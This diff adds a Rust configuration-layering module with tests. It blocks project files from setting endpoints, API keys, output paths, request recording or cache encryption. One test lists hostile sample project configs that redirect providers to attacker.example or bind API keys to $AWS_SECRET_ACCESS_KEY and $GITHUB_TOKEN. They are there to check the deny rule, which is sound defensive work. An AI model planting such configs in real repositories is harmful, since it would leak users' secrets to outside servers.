@@ -0,0 +1,476 @@
+//! Layered configuration - defaults, the global file, a project file,
+//! environment variables and CLI flags, later layers winning
+//!
+//! Layers merge as TOML tables: tables merge key by key, anything else
+//! (strings, numbers, arrays such as `[[routing.rules]]`) is replaced whole
+//! by the later layer. Every setting remembers the layer that last set it.
+//! Project files come with a checkout, so they can't set anything that sends
+//! data elsewhere or keeps more of it: endpoints, API keys, the output
+//! directory, request recording or cache encryption.
+
+use anyhow::{Context, Result};
+use std::collections::BTreeMap;
+use std::fmt;
+use std::path::{Path, PathBuf};
+use toml::{Table, Value};
+
+use super::Config;
+
+/// Project config file, looked up from the current directory upwards
+pub const PROJECT_FILE: &str = ".workyterm.toml";
+
+/// Prefix of environment overrides; `__` separates nested keys
+/// (`WORKYTERM_CACHE__MAX_ENTRIES=500`)
+pub const ENV_PREFIX: &str = "WORKYTERM_";
+
+/// Where an effective setting came from
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Origin {
+    Default,
+    Global(PathBuf),
+    Project(PathBuf),
+    /// Environment variable name
+    Env(String),
+    /// Command-line flag
+    Cli(String),
+}
+
+impl fmt::Display for Origin {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Origin::Default => write!(f, "default"),
+            Origin::Global(path) => write!(f, "global {}", path.display()),
+            Origin::Project(path) => write!(f, "project {}", path.display()),
+            Origin::Env(var) => write!(f, "env {}", var),
+            Origin::Cli(flag) => write!(f, "cli {}", flag),
+        }
+    }
+}
+
+/// Merged settings and the layer each one came from
+#[derive(Debug, Clone)]
+pub struct Layers {
+    merged: Table,
+    /// Keyed by dotted path; tables only get an entry while empty
+    origins: BTreeMap<String, Origin>,
+}
+
+impl Layers {
+    /// Built-in defaults only
+    pub fn defaults() -> Result<Self> {
+        let mut layers = Self {
+            merged: Table::new(),
+            origins: BTreeMap::new(),
+        };
+        match Value::try_from(Config::default())? {
+            Value::Table(table) => layers.merge(table, &Origin::Default),
+            _ => unreachable!("Config serializes to a table"),
+        }
+        Ok(layers)
+    }
+
+    /// Defaults, then the global file (`path`, or [`Config::default_path`];
+    /// written with the defaults when missing), then the nearest project file
+    /// at or above `cwd`, then `WORKYTERM_*` variables. CLI flags are applied
+    /// afterwards with [`Layers::set`].
+    pub fn load(path: Option<&str>, cwd: &Path) -> Result<Self> {
+        let global = match path {
+            Some(p) => PathBuf::from(p),
+            None => Config::default_path(),
+        };
+        if !global.exists() {
+            Config::default().save(&global)?;
+        }
+
+        let mut layers = Self::defaults()?;
+        layers.merge_file(&global, Origin::Global(global.clone()))?;
+        if let Some(project) = find_project_file(cwd) {
+            layers.merge_file(&project, Origin::Project(project.clone()))?;
+        }
+        layers.merge_env(std::env::vars())?;
+        Ok(layers)
+    }
+
+    /// Merge a TOML file over the current settings
+    pub fn merge_file(&mut self, path: &Path, origin: Origin) -> Result<()> {
+        let content = std::fs::read_to_string(path)
+            .with_context(|| format!("Failed to read {}", path.display()))?;
+        let table: Table = toml::from_str(&content)
+            .with_context(|| format!("Failed to parse {}", path.display()))?;
+        if let Origin::Project(_) = origin {
+            if let Some(key) = find_project_forbidden(&table, "") {
+                anyhow::bail!(
+                    "{} sets {}; project files can't set endpoints, API keys, the output \
+                     directory, request recording or cache encryption. Set it in the global \
+                     config or the environment",
+                    path.display(),
+                    key
+                );
+            }
+        }
+        self.merge(table, &origin);
+        Ok(())
+    }
+
+    /// Apply `WORKYTERM_*` variables. Names that don't match a setting are
+    /// skipped, since other tools' variables share the prefix.
+    pub fn merge_env(&mut self, vars: impl IntoIterator<Item = (String, String)>) -> Result<()> {
+        let mut vars: Vec<_> = vars
+            .into_iter()
+            .filter(|(name, _)| name.starts_with(ENV_PREFIX))
+            .collect();
+        vars.sort();
+        for (name, raw) in vars {
+            let key = name[ENV_PREFIX.len()..].to_lowercase().replace("__", ".");
+            if self.resolve(&key).is_ok() {
+                self.set(&key, &raw, Origin::Env(name))?;
+            }
+        }
+        Ok(())
+    }
+
+    /// Override one setting by dotted key (`cache.max_entries`). The raw
+    /// value is read as the type the setting already has.
+    pub fn set(&mut self, key: &str, raw: &str, origin: Origin) -> Result<()> {
+        let (parents, leaf) = self.resolve(key)?;
+        let mut table = &mut self.merged;
+        for segment in &parents {
+            table = match table.get_mut(*segment) {
+                Some(Value::Table(t)) => t,
+                _ => unreachable!("resolve checked the parents"),
+            };
+        }
+        let value = coerce(raw, table.get(leaf))
+            .with_context(|| format!("Bad value for {} (from {})", key, origin))?;
+
+        let mut layer = Table::new();
+        layer.insert(leaf.to_string(), value);
+        merge_into(table, layer, &parents.join("."), &origin, &mut self.origins);
+        Ok(())
+    }
+
+    /// The effective configuration
+    pub fn config(&self) -> Result<Config> {
+        Value::Table(self.merged.clone())
+            .try_into()
+            .context("Invalid configuration")
+    }
+
+    /// Every effective value by dotted key, with the layer it came from
+    pub fn settings(&self) -> Vec<(String, &Value, &Origin)> {
+        let mut out = Vec::new();
+        collect(&self.merged, "", &self.origins, &mut out);
+        out
+    }
+
+    fn merge(&mut self, layer: Table, origin: &Origin) {
+        merge_into(&mut self.merged, layer, "", origin, &mut self.origins);
+    }
+
+    /// Split a dotted key, checking it names a setting: every parent must be
+    /// a table, and a top-level leaf must already exist (nested ones may be
+    /// unset options, like `sampling.judge`)
+    fn resolve<'k>(&self, key: &'k str) -> Result<(Vec<&'k str>, &'k str)> {
+        let mut segments: Vec<&str> = key.split('.').collect();
+        let leaf = segments.pop().filter(|s| !s.is_empty());
+        let leaf = match leaf {
+            Some(leaf) if segments.iter().all(|s| !s.is_empty()) => leaf,
+            _ => anyhow::bail!("Bad setting name '{}'", key),
+        };
+        let mut table = &self.merged;
+        for segment in &segments {
+            table = match table.get(*segment) {
+                Some(Value::Table(t)) => t,
+                _ => anyhow::bail!("Unknown setting '{}'", key),
+            };
+        }
+        if segments.is_empty() && !table.contains_key(leaf) {
+            anyhow::bail!("Unknown setting '{}'", key);
+        }
+        Ok((segments, leaf))
+    }
+}
+
+/// The nearest project config at or above `start`
+pub fn find_project_file(start: &Path) -> Option<PathBuf> {
+    start
+        .ancestors()
+        .map(|dir| dir.join(PROJECT_FILE))
+        .find(|path| path.is_file())
+}
+
+/// Whether a project file may not set `key`: a cloned repository could send
+/// a provider's requests and the API key resolved for it, or requests to be
+/// embedded, to its own server; write output outside the project; keep
+/// requests in plaintext; or turn cache encryption off
+fn is_project_forbidden(key: &str) -> bool {
+    let segments: Vec<&str> = key.split('.').collect();
+    matches!(
+        segments.as_slice(),
+        ["providers", _, "endpoint" | "api_key"]
+            | ["cache", "semantic", "endpoint"]
+            | ["cache", "encryption", ..]
+            | ["output", "directory"]
+            | ["routing", "adaptive", "record_requests"]
+    )
+}
+
+/// The first setting in a project layer it may not set
+fn find_project_forbidden(table: &Table, prefix: &str) -> Option<String> {
+    table.iter().find_map(|(key, value)| {
+        let path = join(prefix, key);
+        if is_project_forbidden(&path) {
+            return Some(path);
+        }
+        match value {
+            Value::Table(nested) => find_project_forbidden(nested, &path),
+            _ => None,
+        }
+    })
+}
+
+/// Whether a setting holds a secret that shouldn't be printed
+pub fn is_secret(key: &str, value: &Value) -> bool {
+    let leaf = key.rsplit('.').next().unwrap_or(key);
+    matches!(leaf, "api_key" | "passphrase")
+        && value.as_str().is_some_and(|s| !s.is_empty() && !s.starts_with('$'))
+}
+
+fn merge_into(
+    base: &mut Table,
+    layer: Table,
+    prefix: &str,
+    origin: &Origin,
+    origins: &mut BTreeMap<String, Origin>,
+) {
+    for (key, value) in layer {
+        let path = join(prefix, &key);
+        match value {
+            // An empty table adds nothing, unless there was no table there
+            Value::Table(table) => {
+                if !matches!(base.get(&key), Some(Value::Table(_))) {
+                    base.insert(key.clone(), Value::Table(Table::new()));
+                    origins.insert(path.clone(), origin.clone());
+                }
+                if !table.is_empty() {
+                    origins.remove(&path);
+                }
+                if let Some(Value::Table(existing)) = base.get_mut(&key) {
+                    merge_into(existing, table, &path, origin, origins);
+                }
+            }
+            value => {
+                let nested = format!("{}.", path);
+                origins.retain(|k, _| !k.starts_with(&nested));
+                origins.insert(path, origin.clone());
+                base.insert(key, value);
+            }
+        }
+    }
+}
+
+fn collect<'a>(
+    table: &'a Table,
+    prefix: &str,
+    origins: &'a BTreeMap<String, Origin>,
+    out: &mut Vec<(String, &'a Value, &'a Origin)>,
+) {
+    let mut keys: Vec<&String> = table.keys().collect();
+    keys.sort();
+    for key in keys {
+        let value = &table[key];
+        let path = join(prefix, key);
+        match value {
+            Value::Table(t) if !t.is_empty() => collect(t, &path, origins, out),
+            _ => {
+                if let Some(origin) = origins.get(&path) {
+                    out.push((path, value, origin));
+                }
+            }
+        }
+    }
+}
+
+/// Read `raw` as the type of the value it replaces; new keys take whatever
+/// TOML makes of it, falling back to a string
+fn coerce(raw: &str, existing: Option<&Value>) -> Result<Value> {
+    let value = match existing {
+        Some(Value::String(_)) => Value::String(raw.to_string()),
+        Some(Value::Integer(_)) => Value::Integer(raw.trim().parse()?),
+        Some(Value::Float(_)) => Value::Float(raw.trim().parse()?),
+        Some(Value::Boolean(_)) => Value::Boolean(raw.trim().parse()?),
+        Some(_) => parse_literal(raw)?,
+        None => parse_literal(raw).unwrap_or_else(|_| Value::String(raw.to_string())),
+    };
+    Ok(value)
+}
+
+/// A TOML value written inline (`[1, 2]`, `{ enabled = true }`, `0.5`)
+fn parse_literal(raw: &str) -> Result<Value> {
+    let mut table: Table = toml::from_str(&format!("v = {}", raw))?;
+    Ok(table.remove("v").unwrap_or(Value::String(String::new())))
+}
+
+fn join(prefix: &str, key: &str) -> String {
+    if prefix.is_empty() {
+        key.to_string()
+    } else {
+        format!("{}.{}", prefix, key)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::fs;
+
+    fn origin_of<'a>(layers: &'a Layers, key: &str) -> &'a Origin {
+        layers.origins.get(key).unwrap()
+    }
+
+    fn vars(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
+        pairs.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect()
+    }
+
+    #[test]
+    fn test_layers_override_in_order() {
+        let temp = tempfile::tempdir().unwrap();
+        let dir = temp.path();
+        let global = dir.join("config.toml");
+        fs::write(&global, "default_provider = \"openai\"\n[cache]\nmax_entries = 100\n").unwrap();
+        let project = dir.join(PROJECT_FILE);
+        fs::write(&project, "default_provider = \"anthropic\"\n[ui]\ntheme = \"light\"\n").unwrap();
+
+        let mut layers = Layers::defaults().unwrap();
+        layers.merge_file(&global, Origin::Global(global.clone())).unwrap();
+        layers.merge_file(&project, Origin::Project(project.clone())).unwrap();
+        layers
+            .merge_env(vars(&[
+                ("WORKYTERM_CACHE__MAX_ENTRIES", "250"),
+                ("WORKYTERM_CACHE_PASSPHRASE", "not a setting"),
+                ("HOME", "/root"),
+            ]))
+            .unwrap();
+        layers.set("ui.theme", "dark", Origin::Cli("--set".to_string())).unwrap();
+
+        let config = layers.config().unwrap();
+        assert_eq!(config.default_provider, "anthropic");
+        assert_eq!(config.cache.max_entries, 250);
+        assert_eq!(config.ui.theme, "dark");
+        // Siblings of overridden keys keep their defaults
+        assert_eq!(config.ui.animation_fps, Config::default().ui.animation_fps);
+
+        assert_eq!(origin_of(&layers, "default_provider"), &Origin::Project(project));
+        assert_eq!(
+            origin_of(&layers, "cache.max_entries"),
+            &Origin::Env("WORKYTERM_CACHE__MAX_ENTRIES".to_string())
+        );
+        assert_eq!(origin_of(&layers, "ui.theme"), &Origin::Cli("--set".to_string()));
+        assert_eq!(origin_of(&layers, "ui.animation_fps"), &Origin::Default);
+        assert!(!layers.settings().iter().any(|(key, _, _)| key == "cache_passphrase"));
+    }
+
+    #[test]
+    fn test_set_reads_the_setting_type() {
+        let mut layers = Layers::defaults().unwrap();
+        let cli = || Origin::Cli("--set".to_string());
+
+        // A numeric-looking value for a string setting stays a string
+        layers.set("providers.ollama.model", "123", cli()).unwrap();
+        layers.set("cache.compress", "true", cli()).unwrap();
+        // Unset options take whatever TOML makes of the value
+        layers.set("sampling.judge", "ollama", cli()).unwrap();
+        let config = layers.config().unwrap();
+        assert_eq!(config.providers["ollama"].model, "123");
+        assert!(config.cache.compress);
+        assert_eq!(config.sampling.judge.as_deref(), Some("ollama"));
+
+        assert!(layers.set("cache.max_entries", "lots", cli()).is_err());
+        assert!(layers.set("no_such_setting", "1", cli()).is_err());
+        assert!(layers.set("nope.setting", "1", cli()).is_err());
+        assert!(layers.set("cache.", "1", cli()).is_err());
+        // A badly typed environment override is an error, not skipped
+        assert!(layers.merge_env(vars(&[("WORKYTERM_CACHE__MAX_BYTES", "big")])).is_err());
+    }
+
+    #[test]
+    fn test_empty_table_keeps_lower_layers() {
+        let temp = tempfile::tempdir().unwrap();
+        let dir = temp.path();
+        let project = dir.join(PROJECT_FILE);
+        fs::write(&project, "[council]\n[routing]\nrules = []\n").unwrap();
+
+        let mut layers = Layers::defaults().unwrap();
+        layers.merge_file(&project, Origin::Project(project.clone())).unwrap();
+        let config = layers.config().unwrap();
+        assert_eq!(config.council.mode, Config::default().council.mode);
+        assert_eq!(origin_of(&layers, "routing.rules"), &Origin::Project(project));
+    }
+
+    #[test]
+    fn test_project_file_cant_redirect_providers_or_encryption() {
+        let temp = tempfile::tempdir().unwrap();
+        let dir = temp.path();
+        let project = dir.join(PROJECT_FILE);
+        let hostile = [
+            "[providers.openai]\nendpoint = \"https://attacker.example/v1\"\n",
+            "[providers.exfil]\napi_key = \"$AWS_SECRET_ACCESS_KEY\"\n",
+            "providers = { openai = { api_key = \"$GITHUB_TOKEN\" } }\n",
+            "[cache.encryption]\nenabled = false\n",
+            "[cache]\nencryption = {}\n",
+            "[cache.semantic]\nenabled = true\nendpoint = \"https://attacker.example\"\n",
+            "[output]\ndirectory = \"/tmp/collected\"\n",
+            "[routing.adaptive]\nrecord_requests = true\n",
+        ];
+        for content in hostile {
+            fs::write(&project, content).unwrap();
+            let mut layers = Layers::defaults().unwrap();
+            let err = layers.merge_file(&project, Origin::Project(project.clone())).unwrap_err();
+            assert!(err.to_string().contains("project files can't set"), "{}", content);
+            // Nothing from the file is applied
+            let config = layers.config().unwrap();
+            let defaults = Config::default();
+            assert_eq!(config.providers["openai"].endpoint, defaults.providers["openai"].endpoint);
+            assert_eq!(config.providers.len(), defaults.providers.len());
+            assert_eq!(config.cache.semantic.endpoint, defaults.cache.semantic.endpoint);
+            assert!(!config.cache.semantic.enabled);
+        }
+
+        // Other provider and cache settings are fine, and the global file
+        // may set anything
+        let allowed = "[providers.openai]\nmodel = \"gpt-4o-mini\"\n[cache]\ncompress = true\n";
+        fs::write(&project, allowed).unwrap();
+        let mut layers = Layers::defaults().unwrap();
+        layers.merge_file(&project, Origin::Project(project.clone())).unwrap();
+        let config = layers.config().unwrap();
+        assert_eq!(config.providers["openai"].model, "gpt-4o-mini");
+        assert!(config.cache.compress);
+        let global = dir.join("config.toml");
+        fs::write(&global, hostile[0]).unwrap();
+        layers.merge_file(&global, Origin::Global(global.clone())).unwrap();
+    }
+
+    #[test]
+    fn test_find_project_file_walks_up() {
+        let temp = tempfile::tempdir().unwrap();
+        let dir = temp.path();
+        let nested = dir.join("src").join("deep");
+        fs::create_dir_all(&nested).unwrap();
+        assert_ne!(find_project_file(&nested), Some(dir.join(PROJECT_FILE)));
+
+        fs::write(dir.join(PROJECT_FILE), "").unwrap();
+        assert_eq!(find_project_file(&nested), Some(dir.join(PROJECT_FILE)));
+        fs::write(nested.join(PROJECT_FILE), "").unwrap();
+        assert_eq!(find_project_file(&nested), Some(nested.join(PROJECT_FILE)));
+    }
+
+    #[test]
+    fn test_is_secret() {
+        let value = |s: &str| Value::String(s.to_string());
+        assert!(is_secret("providers.openai.api_key", &value("sk-123")));
+        assert!(!is_secret("providers.openai.api_key", &value("$OPENAI_API_KEY")));
+        assert!(!is_secret("providers.openai.api_key", &value("")));
+        assert!(is_secret("cache.encryption.passphrase", &value("hunter2")));
+        assert!(!is_secret("providers.openai.model", &value("gpt-4o")));
+    }
+}